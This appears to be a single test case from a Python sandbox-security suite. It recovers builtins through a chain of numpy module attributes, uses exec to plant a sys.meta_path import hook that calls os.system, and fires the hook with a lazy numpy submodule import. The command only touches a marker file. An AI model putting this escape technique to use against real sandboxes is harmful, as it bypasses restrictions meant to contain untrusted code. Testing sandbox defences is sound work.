# attempts: a sys.meta_path finder planted in step 1 runs os.system at the next import anyone makes (here: a lazy numpy submodule in step 2)
# effect: exec
# step: plant an import hook
B = np.random.bit_generator.re.enum.bltns
imp = B.getattr(B, '__import__')
sysm = imp('sys')
B.exec('''
import os, sys
class Hook:
    fired = False
    def find_spec(self, name, path=None, target=None):
        if not Hook.fired:
            Hook.fired = True
            os.system('touch @@MARKER_DIR@@/import_hook')
        return None
sys.meta_path.insert(0, Hook())
''', {})
# step: an innocent-looking lazy numpy attribute (imports a submodule: the hook fires)
for name in ('testing', 'ctypeslib', 'f2py', 'typing', 'polynomial'):
    x = np.ma.core.operator.attrgetter(name)(np)
